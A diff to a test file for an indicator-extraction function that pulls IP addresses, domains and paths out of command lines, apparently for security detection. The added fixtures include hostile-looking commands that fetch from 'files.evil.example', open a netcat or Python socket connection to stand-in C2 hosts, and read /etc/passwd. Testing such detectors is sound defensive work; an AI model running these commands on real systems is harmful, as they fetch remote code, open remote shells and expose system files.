@@ -26,6 +26,10 @@ describe('hosts and addresses in a command line', () => {
     ['ping 2001:db8::1', ['ip 2001:db8::1']],
     ['curl http://[::ffff:203.0.113.9]/', ['ip 203.0.113.9']],
     ['remoteip=203.0.113.9 port=443 protocol=TCP', ['ip 203.0.113.9']],
+    ['sh -c fetch files.evil.example/a', ['domain files.evil.example']],
+    ['python3 -c s.connect(("203.0.113.9",4242))', ['ip 203.0.113.9']],
+    ['busybox nc c2.evil.sbs 443', ['domain c2.evil.sbs']],
+    ['curl https://[redacted:userinfo]@files.evil.example/a', ['domain files.evil.example']],
     ['cat /etc/passwd', ['path /etc/passwd']],
   ])('%s', (commandLine, expected) => expect(valuesIn(commandLine)).toEqual(expected));
 
@@ -33,6 +37,8 @@ describe('hosts and addresses in a command line', () => {
     'ld a.so libc.so.6 main.o',
     'sh foo.sh',
     'bash run.sh build.rs main.cc Makefile.in',
+    'cp config.yaml.example .env.example config.example',
+    'csc System.IO Foo.Io',
     'pip install requests==2.31.0 foo-1.2.3',
     'node v20.11.1 app.js server.ts',
     'tar czf backup.tar.gz data.json',
